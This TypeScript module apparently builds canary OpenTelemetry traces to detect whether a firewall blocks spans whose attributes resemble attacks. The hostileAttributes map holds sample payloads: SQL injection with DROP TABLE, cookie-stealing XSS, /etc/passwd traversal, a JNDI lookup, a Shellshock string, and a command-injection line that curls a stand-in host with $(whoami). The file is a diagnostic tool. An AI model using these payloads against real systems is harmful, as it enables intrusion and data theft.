/**
 * A trace whose attributes look like attacks: SQL injection, script, path traversal, a shell. Real spans do. A firewall
 * rule before the ingress answers such a request with 403, which exporters do not retry and no Worker sees. Pure.
 */
import { jsonToProtobuf } from "../../shared/otlp/json.ts";

const canaryService = "headrace-doctor";

/** What the rules of firewalls look for in bodies. */
export const hostileAttributes: Readonly<Record<string, string>> = {
  "db.query.text":
    "SELECT * FROM users WHERE name = '' OR 1=1 --' UNION SELECT password FROM users; DROP TABLE users; SELECT SLEEP(5)",
  "http.request.header.referer": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
  "url.full": "https://shop.example/../../etc/passwd?file=php://filter&q=$\u007bjndi:ldap://x.example/a}",
  "process.command_line": "; cat /etc/passwd | sh && curl http://x.example/$(whoami)",
  "user_agent.original": "sqlmap/1.8 () { :; }; /bin/bash -c id",
};

/** The same request with nothing in it that a rule could take offence at. */
export const harmlessAttributes: Readonly<Record<string, string>> = { "db.system.name": "clickhouse" };

export interface Canary {
  /** 32 hex digits. */
  readonly trace: string;
  readonly encoding: "protobuf" | "json";
  readonly contentType: string;
  readonly attributes: Readonly<Record<string, string>>;
  readonly body: Uint8Array;
}

export const canarySpans = 2;

/** Two spans of one trace. `ids`: 32 random bytes; `nowMs` since the epoch. */
export function makeCanary(
  encoding: Canary["encoding"],
  attributes: Canary["attributes"],
  ids: Uint8Array,
  nowMs: number,
): Canary {
  const hex = Array.from(ids, (byte) => byte.toString(16).padStart(2, "0")).join("");
  const trace = hex.slice(0, 32);
  const [root, child] = [hex.slice(32, 48), hex.slice(48, 64)];
  const span = (spanId: string | undefined, parentSpanId: string | undefined, kind: number) => ({
    traceId: trace,
    spanId,
    parentSpanId,
    name: "canary",
    kind,
    startTimeUnixNano: `${nowMs}000000`,
    endTimeUnixNano: `${nowMs + 1}000000`,
    attributes: Object.entries(attributes).map(([key, stringValue]) => ({ key, value: { stringValue } })),
  });
  const request = {
    resourceSpans: [
      {
        resource: { attributes: [{ key: "service.name", value: { stringValue: canaryService } }] },
        scopeSpans: [{ spans: [span(root, "", 2), span(child, root, 3)] }],
      },
    ],
  };
  const json = new TextEncoder().encode(JSON.stringify(request));
  return encoding === "json"
    ? { trace, encoding, contentType: "application/json", attributes, body: json }
    : { trace, encoding, contentType: "application/x-protobuf", attributes, body: jsonToProtobuf(json) };
}
